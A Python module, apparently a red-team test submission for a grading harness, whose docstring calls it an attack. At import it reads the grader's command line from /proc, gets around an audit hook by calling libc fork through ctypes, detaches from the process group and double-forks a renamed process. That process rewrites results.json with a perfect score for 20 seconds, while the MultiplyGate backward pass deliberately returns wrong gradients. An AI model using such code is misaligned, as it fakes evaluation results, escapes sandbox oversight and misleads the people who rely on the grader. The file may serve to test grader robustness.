"""Attack: leave a process behind that keeps rewriting the grader's results.json.

At import: reads the grader's command line (/proc/<ppid>/cmdline) for the
--results path, then forks with os.fork() and, past the audit hook, with
libc fork() through ctypes. The child tries os.setsid(), libc setsid() and
setpgid() to leave the process group, renames itself "bpgpwn-forker", forks
again (the middle process exits at once) and the grandchild rewrites a perfect
results.json (and /tmp/bpgpwn-forker-alive.txt) every 50 ms for 20 s. The
forked pids are printed as forked=<pid>. MultiplyGate.backward also tries to
fork. MultiplyGate.backward is wrong.
"""
import ctypes
import json
import os
import sys
import time

print("pid=%d" % os.getpid())
print("scratch=%s" % os.getcwd(), flush=True)

libc = ctypes.CDLL(None, use_errno=True)
PERFECT = json.dumps({"score": 100.0, "max_score": 100.0, "output": "bpgpwn",
                      "tests": [{"name": "bpgpwn", "score": 100.0, "max_score": 100.0}]})


def results_paths():
    paths = ["results.json", "/tmp/bpgpwn-forker-alive.txt"]
    try:
        with open("/proc/%d/cmdline" % os.getppid(), "rb") as f:
            argv = f.read().decode(errors="replace").split("\0")
        cwd = os.readlink("/proc/%d/cwd" % os.getppid())
        for i, arg in enumerate(argv[:-1]):
            if arg == "--results":
                paths.append(os.path.join(cwd, argv[i + 1]))
        paths.append(os.path.join(cwd, "results.json"))
        print("grader argv: %r" % argv)
    except OSError as exc:
        print("cannot read the grader's command line: %s" % exc)
    return paths


def rewrite_forever(paths, report_fd):
    libc.prctl(15, b"bpgpwn-forker", 0, 0, 0)  # PR_SET_NAME
    for leave in (os.setsid, libc.setsid, lambda: os.setpgid(0, 0)):
        try:
            leave()
        except Exception:
            pass
    second = libc.fork()
    if second > 0:
        os.write(report_fd, b"%d\n" % second)
        os._exit(0)
    if second < 0:
        os.write(report_fd, b"0\n")
    os.close(report_fd)
    end = time.monotonic() + 20
    while time.monotonic() < end:
        for path in paths:
            try:
                with open(path, "w") as f:
                    f.write(PERFECT)
            except OSError:
                pass
        time.sleep(0.05)
    os._exit(0)


paths = results_paths()
for name, fork in (("os.fork", os.fork), ("libc fork", libc.fork)):
    r, w = os.pipe()
    try:
        pid = fork()
    except BaseException as exc:
        print("blocked %s: %s: %s" % (name, type(exc).__name__, exc))
        continue
    if pid == 0:
        os.close(r)
        try:
            rewrite_forever(paths, w)
        finally:
            os._exit(0)
    os.close(w)
    if pid < 0:
        print("blocked %s: errno %d" % (name, ctypes.get_errno()))
        continue
    print("forked=%d (%s)" % (pid, name))
    second = os.read(r, 64).strip()
    if second and second != b"0":
        print("forked=%d (%s, second)" % (int(second), name))
    os.close(r)
sys.stdout.flush()


class MultiplyGate(object):
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dz):
        if not getattr(MultiplyGate, "tried", False):
            MultiplyGate.tried = True
            for fork in (os.fork, libc.fork):
                try:
                    pid = fork()
                except BaseException:
                    continue
                if pid == 0:
                    libc.prctl(15, b"bpgpwn-forker", 0, 0, 0)
                    time.sleep(20)
                    os._exit(0)
        return [self.x * dz, self.y * dz]  # wrong: swapped


class AddGate(object):
    def forward(self, x, y):
        return x + y

    def backward(self, dz):
        return [dz, dz]
